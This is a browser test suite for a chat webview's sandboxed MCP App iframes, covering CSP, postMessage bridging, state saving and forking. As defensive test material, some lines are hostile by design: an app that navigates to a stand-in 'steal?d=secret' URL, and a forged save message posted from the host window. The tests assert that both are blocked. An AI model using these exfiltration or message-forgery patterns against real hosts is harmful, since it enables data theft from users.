/**
 * MCP Apps in the built chat webview (headless Chromium, the chat's strict CSP, fake host; see
 * ./support/page.ts): a tool call whose `item.completed` carries an app renders it under the tool
 * card in a frame with `sandbox="allow-scripts"` only and a srcdoc that starts with the app's
 * strict CSP; inside, the app's inline script and style run (they carry the chat's nonce), but it
 * cannot reach the chat's document nor fetch anything. Over postMessage it gets the host context
 * (theme, colours, its saved state from the replayed `mcpApp.stateSaved`), the tool's input and
 * result, a bounded height, and saves state through `setMcpAppState` (the answer and the
 * engine's refusal go back to it; 16 KiB + 1 byte is refused before it is sent). Messages from
 * any other source — the chat's own window, another app's frame — are ignored. "Fork from here"
 * sends `forkThread`. Screenshot: docs/screenshot-mcp-app.png.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { ROOT, openWebviewPage, type Posted, type WebviewPage } from './support/browser';
import { APP_CSP, APP_SANDBOX } from '../../webview/src/lib/mcp-app';

const T = 'thread:apps';
const R0 = 'run:apps:0';
const ITEM = 'item:apps:0';
const ITEM_B = 'item:apps:1';

/** A small app: asks ui/initialize, records what it gets in its own DOM, and offers window.save(state). */
const APP_HTML = `<!doctype html><html><head><style>#out{color:rgb(1, 2, 3);font:13px sans-serif}</style></head><body>
<div id="out">waiting</div><ul id="log"></ul>
<script>
const out = document.getElementById('out');
const log = (t) => { const li = document.createElement('li'); li.textContent = t; document.getElementById('log').appendChild(li); };
let seq = 0; const pending = {};
function rpc(method, params) { const id = ++seq; parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*'); return new Promise((r) => (pending[id] = r)); }
window.addEventListener('message', (e) => {
  const m = e.data;
  if (m && m.id !== undefined && pending[m.id]) { const p = pending[m.id]; delete pending[m.id]; p(m); return; }
  if (m && m.method) log(m.method + ' ' + JSON.stringify(m.params));
});
try { out.dataset.parent = String(parent.document.title); } catch (e) { out.dataset.parent = 'blocked'; }
fetch('https://example.invalid/x').then(() => (out.dataset.fetch = 'allowed'), () => (out.dataset.fetch = 'blocked'));
window.save = (s) => rpc('vox/saveState', { state: s }).then((r) => { out.dataset.saved = JSON.stringify(r); out.dataset.answers = String(Number(out.dataset.answers || 0) + 1); });
window.unknown = () => rpc('ui/open-link', { url: 'https://example.invalid' }).then((r) => (out.dataset.unknown = JSON.stringify(r)));
rpc('ui/initialize', { appInfo: { name: 'test', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' }).then((r) => {
  const c = r.result.hostContext;
  out.dataset.theme = c.theme;
  out.dataset.state = String(c['vox/state']);
  out.dataset.bg = c.styles.variables['--color-background-primary'] || '';
  out.textContent = 'Weather: 12°C in Oslo';
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/initialized' }, '*');
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: 5000 } }, '*');
});
</script></body></html>`;

/**
 * The page's errors without the one the harness itself causes in an app's frame: Playwright runs
 * the fake host's init script (./support/page.ts) in every frame, and in the sandboxed one its
 * sessionStorage read throws — which is the sandbox working (no same-origin storage).
 */
const SANDBOXED_STORAGE = "Failed to read the 'sessionStorage' property from 'Window': The document is sandboxed and lacks the 'allow-same-origin' flag.";
const appErrorsAside = (errors: readonly string[]) => errors.filter((e) => e !== SANDBOXED_STORAGE);

/** The README's app: a weather card in the host's colours (the spec's style variables), sized to its content, saving its unit. */
const CARD_HTML = `<!doctype html><html><head><style>
body{margin:0;font:13px var(--font-sans,sans-serif);color:var(--color-text-primary);background:var(--color-background-primary)}
.card{display:flex;gap:16px;align-items:center;padding:12px 14px}
.temp{font-size:32px;font-weight:600} .sub{color:var(--color-text-secondary)} button{font:inherit;padding:2px 8px}
</style></head><body><div class="card"><div class="temp" id="t">12°C</div><div><div><b>Oslo</b> · light rain</div><div class="sub">wind 4 m/s · humidity 81%</div></div>
<button id="unit">Show °F</button></div><script>
let id = 0; const send = (method, params) => parent.postMessage({ jsonrpc: '2.0', id: ++id, method, params }, '*');
window.addEventListener('message', (e) => {
  const m = e.data; if (!m || m.id !== 1 || !m.result) return;
  for (const [k, v] of Object.entries(m.result.hostContext.styles.variables)) document.documentElement.style.setProperty(k, v);
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/initialized' }, '*');
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: document.body.scrollHeight } }, '*');
});
document.getElementById('unit').onclick = () => { document.getElementById('t').textContent = '54°F'; send('ui/update-model-context', { structuredContent: { city: 'Oslo', unit: 'F' } }); };
send('ui/initialize', { appInfo: { name: 'weather', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' });
</script></body></html>`;

describe('chat webview in Chromium: MCP Apps', function () {
  this.timeout(120_000);
  let w: WebviewPage | undefined;
  let page: Page;
  let eventSeq = 0;
  const ev = (e: Record<string, unknown>) => ({ seq: ++eventSeq, time: Date.now(), threadId: T, ...e });
  const app = (title: string) => ({ uri: 'ui://weather/widget', html: APP_HTML, server: 'weather', title });
  const thread = (extra: () => Record<string, unknown>[] = () => []) => [
    ev({ type: 'thread.created', title: 'Weather' }),
    ev({ type: 'message.added', messageId: 'm:u0', parentId: null, role: 'user', content: 'Show the weather in Oslo', runId: null, status: 'complete' }),
    ev({ type: 'run.started', runId: R0, ordinal: 0, provider: 'openai', model: 'openai:gpt-4o', ownerPid: 1, userMessageId: 'm:u0' }),
    ev({ type: 'item.started', runId: R0, itemId: ITEM, ordinal: 0, kind: 'toolCall', toolName: 'mcp__weather__show', arguments: '{"city":"Oslo"}' }),
    ev({ type: 'item.completed', runId: R0, itemId: ITEM, status: 'completed', content: 'Widget shown.', isError: false, app: app('Weather in Oslo') }),
    ...extra(), // made here, so their seqs follow the events before them
    ev({ type: 'message.added', messageId: 'm:a0', parentId: 'm:u0', role: 'assistant', content: 'Here it is.', runId: R0, status: 'complete' }),
    ev({ type: 'run.ended', runId: R0, status: 'completed', error: null, usage: { inputTokens: 10, outputTokens: 8 } }),
  ];

  async function open(suite: Mocha.Context, events: Record<string, unknown>[]): Promise<WebviewPage> {
    const p = await openWebviewPage(suite, { nonce: 'nonceMcpApp', profilePrefix: 'vox-chromium-mcp-app-', viewport: { width: 520, height: 900 } });
    await p.host({ type: 'settings', model: 'openai:gpt-4o', models: [{ ref: 'openai:gpt-4o', label: 'GPT-4o', isDemo: false }], demoNotice: null });
    await p.host({ type: 'hostCommand', command: 'openThread', threadId: T });
    await p.waitPosted('subscribeThread', (m) => m.type === 'subscribeThread' && m.threadId === T);
    await p.host({ type: 'events', threadId: T, events });
    return p;
  }
  afterEach(async () => {
    await w?.close();
    w = undefined;
  });

  const appFrame = async (itemId: string): Promise<Frame> => {
    let found: Frame | null = null;
    await w!.eventually(`the frame of ${itemId}`, async () => {
      const handle = await page.locator(`[data-mcp-app-item="${itemId}"] iframe`).elementHandle();
      found = handle ? await handle.contentFrame() : null;
      return found !== null && (await found.locator('#out').count()) === 1;
    });
    return found!;
  };
  const data = (f: Frame, key: string) => f.locator('#out').getAttribute(`data-${key}`);
  const sets = async (): Promise<Posted[]> => (await w!.posted()).filter((m) => m.type === 'setMcpAppState');

  it('renders the app sandboxed with its CSP, bridges initialize / tool data / size / state, and ignores other sources', async function () {
    w = await open(this, thread());
    page = w.page;
    const iframe = page.locator(`[data-mcp-app-item="${ITEM}"] iframe`);
    await w.eventually('the app frame', async () => (await iframe.count()) === 1);
    // Under the tool card, in the same run.
    assert.equal(await page.locator('article.run section.tool + section.mcp-app').count(), 1);
    assert.equal(await iframe.getAttribute('sandbox'), 'allow-scripts');
    assert.equal(APP_SANDBOX, 'allow-scripts');
    const srcdoc = (await iframe.getAttribute('srcdoc')) ?? '';
    assert.ok(srcdoc.startsWith(`<!doctype html><meta http-equiv="Content-Security-Policy" content="${APP_CSP.replace(/&/g, '&amp;')}"><html>`), srcdoc.slice(0, 240));
    assert.equal(APP_CSP, "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'");
    assert.ok(!/connect-src/.test(APP_CSP));
    assert.match(srcdoc, /<style nonce="nonceMcpApp">/);

    const f = await appFrame(ITEM);
    await w.eventually('initialized', async () => (await data(f, 'theme')) === 'dark');
    assert.equal(await data(f, 'state'), 'null', 'nothing saved yet');
    assert.ok(((await data(f, 'bg')) ?? '').length > 0, 'VS Code colours as the spec\'s style variables');
    // Its own inline style applied (the nonce passes the inherited chat CSP); the chat's document and the network are out of reach.
    assert.equal(await f.evaluate(`getComputedStyle(document.getElementById('out')).color`), 'rgb(1, 2, 3)');
    assert.equal(await data(f, 'parent'), 'blocked');
    await w.eventually('fetch refused', async () => (await data(f, 'fetch')) === 'blocked');
    // Tool input and result after initialized; height bounded by the maximum.
    await w.eventually('tool data', async () => (await f.locator('#log li').count()) >= 2);
    const logged = await f.locator('#log li').allInnerTexts();
    assert.deepEqual(logged.slice(0, 2), ['ui/notifications/tool-input {"arguments":{"city":"Oslo"}}', 'ui/notifications/tool-result {"content":[{"type":"text","text":"Widget shown."}],"isError":false}']);
    await w.eventually('bounded height', async () => (await iframe.evaluate((el) => (el as unknown as { style: { height: string } }).style.height)) === '640px');

    // Save: the command goes out with the item; the engine's answer comes back to the app.
    await f.evaluate(`void window.save('{"city":"Oslo"}')`);
    const sent = await w.waitPosted('setMcpAppState', (m) => m.type === 'setMcpAppState');
    assert.deepEqual([sent.threadId, sent.itemId, sent.state], [T, ITEM, '{"city":"Oslo"}']);
    await w.host({ type: 'result', inReplyTo: sent.requestId, value: { bytes: 15, max: 16384 } });
    await w.eventually('saved', async () => (await data(f, 'saved')) !== null);
    assert.deepEqual(JSON.parse((await data(f, 'saved'))!), { jsonrpc: '2.0', id: 2, result: {} });
    await w.eventually('note', async () => (await page.locator('.mcp-app-note').innerText()) === 'State saved (15 of 16384 bytes).');

    // The engine refuses: the app gets the error, the chat shows it.
    await f.evaluate(`void window.save('{"again":true}')`);
    await w.eventually('second save', async () => (await sets()).length === 2);
    const second = (await sets())[1]!;
    await w.host({ type: 'error', inReplyTo: second.requestId, domain: 'mcpApp', code: 'unknownItem', message: 'thread thread:apps has no turn item item:apps:0' });
    await w.eventually('refusal in the app', async () => ((await data(f, 'saved')) ?? '').includes('-32602'));
    assert.match((await data(f, 'saved'))!, /has no turn item/);
    assert.match(await page.locator('.mcp-app-note').innerText(), /^Not saved: thread thread:apps has no turn item/);

    // 16 KiB + 1 byte: refused in the chat before it is sent; exactly 16 KiB is sent.
    await f.evaluate(`void window.save('é'.repeat(8192) + 'x')`);
    await w.eventually('oversize refused', async () => ((await data(f, 'saved')) ?? '').includes('16385 bytes'));
    assert.equal((await sets()).length, 2);
    await f.evaluate(`void window.save('é'.repeat(8192))`);
    await w.eventually('16 KiB sent', async () => (await sets()).length === 3);

    // Unknown requests are answered "method not found".
    await f.evaluate('void window.unknown()');
    await w.eventually('method not found', async () => ((await data(f, 'unknown')) ?? '').includes('-32601'));

    // Another source — the chat's own window — posting a save in the app's words: ignored.
    await page.evaluate(`window.postMessage({ jsonrpc: '2.0', id: 99, method: 'vox/saveState', params: { state: 'forged' } }, '*')`);
    await page.evaluate(`window.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: 50 } }, '*')`);
    await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
    assert.equal((await sets()).length, 3, 'a message from the chat window itself is not the app');
    assert.equal(await iframe.evaluate((el) => (el as unknown as { style: { height: string } }).style.height), '640px');

    assert.deepEqual(appErrorsAside(w.pageErrors), []);
  });

  it('replays the saved state into the app, keeps two apps apart, and offers Fork from here', async function () {
    w = await open(this, thread(() => [
      ev({ type: 'mcpApp.stateSaved', itemId: ITEM, state: '{"city":"Bergen"}' }),
      ev({ type: 'item.started', runId: R0, itemId: ITEM_B, ordinal: 1, kind: 'toolCall', toolName: 'mcp__weather__show', arguments: '{"city":"Tromsø"}' }),
      ev({ type: 'item.completed', runId: R0, itemId: ITEM_B, status: 'completed', content: 'Second widget.', isError: false, app: app('Weather in Tromsø') }),
    ]));
    page = w.page;
    const a = await appFrame(ITEM);
    const b = await appFrame(ITEM_B);
    await w.eventually('both initialized', async () => (await data(a, 'state')) !== null && (await data(b, 'state')) !== null);
    assert.equal(await data(a, 'state'), '{"city":"Bergen"}');
    assert.equal(await data(b, 'state'), 'null');
    // B's save names B's item only (A's frame handler ignores B's messages).
    await b.evaluate(`void window.save('{"b":1}')`);
    await w.eventually('B saved', async () => (await sets()).length >= 1);
    await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
    assert.deepEqual((await sets()).map((m) => m.itemId), [ITEM_B]);
    // Saves while one is in flight coalesce into the latest: A saves 1, 2, 3 at once → 1 goes out, then 3.
    await a.evaluate(`void window.save('1'); void window.save('2'); void window.save('3')`);
    const ofA = async () => (await sets()).filter((m) => m.itemId === ITEM);
    await w.eventually('A\'s first save', async () => (await ofA()).length === 1);
    await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
    assert.deepEqual((await ofA()).map((m) => m.state), ['1']);
    await w.host({ type: 'result', inReplyTo: (await ofA())[0]!.requestId, value: { bytes: 1, max: 16384 } });
    await w.eventually('A\'s latest save', async () => (await ofA()).length === 2);
    assert.deepEqual((await ofA()).map((m) => m.state), ['1', '3']);
    await w.host({ type: 'result', inReplyTo: (await ofA())[1]!.requestId, value: { bytes: 1, max: 16384 } });
    await w.eventually('every request of A answered', async () => (await data(a, 'answers')) === '3');
    assert.equal((await ofA()).length, 2, 'the skipped state 2 never went out');

    await page.locator('button.fork-here').click();
    const fork = await w.waitPosted('forkThread', (m) => m.type === 'forkThread');
    assert.deepEqual([fork.threadId, fork.messageId], [T, 'm:a0']);
    // The engine's answer opens the new thread.
    await w.host({ type: 'result', inReplyTo: fork.requestId, value: { threadId: 'thread:fork', title: 'Fork of Weather', messages: 2, runs: 1, appStates: 2 } });
    await w.waitPosted('the fork opened', (m) => m.type === 'subscribeThread' && m.threadId === 'thread:fork');
    assert.deepEqual(appErrorsAside(w.pageErrors), []);
  });

  it('the README screenshot: an app in the host\'s colours that saves its state through ui/update-model-context', async function () {
    w = await openWebviewPage(this, { nonce: 'nonceMcpCard', profilePrefix: 'vox-chromium-mcp-card-', viewport: { width: 520, height: 560 } });
    page = w.page;
    await w.host({ type: 'settings', model: 'openai:gpt-4o', models: [{ ref: 'openai:gpt-4o', label: 'GPT-4o', isDemo: false }], demoNotice: null });
    await w.host({ type: 'hostCommand', command: 'openThread', threadId: T });
    await w.waitPosted('subscribeThread', (m) => m.type === 'subscribeThread' && m.threadId === T);
    await w.host({ type: 'events', threadId: T, events: [
      ev({ type: 'thread.created', title: 'Weather' }),
      ev({ type: 'message.added', messageId: 'm:u0', parentId: null, role: 'user', content: 'What is the weather in Oslo?', runId: null, status: 'complete' }),
      ev({ type: 'run.started', runId: R0, ordinal: 0, provider: 'openai', model: 'openai:gpt-4o', ownerPid: 1, userMessageId: 'm:u0' }),
      ev({ type: 'item.started', runId: R0, itemId: ITEM, ordinal: 0, kind: 'toolCall', toolName: 'mcp__weather__forecast', arguments: '{"city":"Oslo"}' }),
      ev({ type: 'item.completed', runId: R0, itemId: ITEM, status: 'completed', content: '12°C, light rain', isError: false, app: { uri: 'ui://weather/card', html: CARD_HTML, server: 'weather', title: 'Weather in Oslo' } }),
      ev({ type: 'message.added', messageId: 'm:a0', parentId: 'm:u0', role: 'assistant', content: 'It is **12°C** with light rain in Oslo.', runId: R0, status: 'complete' }),
      ev({ type: 'run.ended', runId: R0, status: 'completed', error: null, usage: { inputTokens: 120, outputTokens: 14 } }),
    ] });
    const iframe = page.locator(`[data-mcp-app-item="${ITEM}"] iframe`);
    await w.eventually('sized to its content', async () => {
      const h = await iframe.evaluate((el) => (el as unknown as { style: { height: string } }).style.height);
      return h !== '' && h !== '160px';
    });
    const f = await (await iframe.elementHandle())!.contentFrame();
    await f!.locator('#unit').click();
    const sent = await w.waitPosted('setMcpAppState', (m) => m.type === 'setMcpAppState');
    assert.deepEqual(JSON.parse(sent.state as string), { structuredContent: { city: 'Oslo', unit: 'F' } });
    await w.host({ type: 'result', inReplyTo: sent.requestId, value: { bytes: 49, max: 16384 } });
    await w.eventually('saved note', async () => (await page.locator('.mcp-app-note').count()) === 1);
    fs.mkdirSync(path.join(ROOT, 'docs'), { recursive: true });
    await page.screenshot({ path: path.join(ROOT, 'docs/screenshot-mcp-app.png') });
    assert.deepEqual(appErrorsAside(w.pageErrors), []);
  });

  it('an app that navigates its own frame elsewhere is stopped by the chat\'s CSP (no frame-src: only srcdoc)', async function () {
    const leaving = '<!doctype html><p>bye</p><script>location.href = "https://example.invalid/steal?d=secret";</script>';
    w = await openWebviewPage(this, { nonce: 'nonceMcpNav', profilePrefix: 'vox-chromium-mcp-nav-', viewport: { width: 520, height: 560 } });
    page = w.page;
    await w.host({ type: 'settings', model: 'openai:gpt-4o', models: [{ ref: 'openai:gpt-4o', label: 'GPT-4o', isDemo: false }], demoNotice: null });
    await w.host({ type: 'hostCommand', command: 'openThread', threadId: T });
    await w.waitPosted('subscribeThread', (m) => m.type === 'subscribeThread' && m.threadId === T);
    await w.host({ type: 'events', threadId: T, events: [
      ev({ type: 'thread.created', title: 'Leaving' }),
      ev({ type: 'message.added', messageId: 'm:u0', parentId: null, role: 'user', content: 'go', runId: null, status: 'complete' }),
      ev({ type: 'run.started', runId: R0, ordinal: 0, provider: 'openai', model: 'openai:gpt-4o', ownerPid: 1, userMessageId: 'm:u0' }),
      ev({ type: 'item.started', runId: R0, itemId: ITEM, ordinal: 0, kind: 'toolCall', toolName: 'mcp__x__leave', arguments: '{}' }),
      ev({ type: 'item.completed', runId: R0, itemId: ITEM, status: 'completed', content: 'ok', isError: false, app: { uri: 'ui://x/leave', html: leaving, server: 'x', title: 'Leaving' } }),
    ] });
    await w.eventually('the navigation refused by the chat\'s policy', async () =>
      ((await page.evaluate('window.__violations')) as string[]).some((v) => v.startsWith('frame-src https://example.invalid')));
    assert.ok(!page.frames().some((f) => f.url().startsWith('https://example.invalid')), page.frames().map((f) => f.url()).join(', '));
  });
});
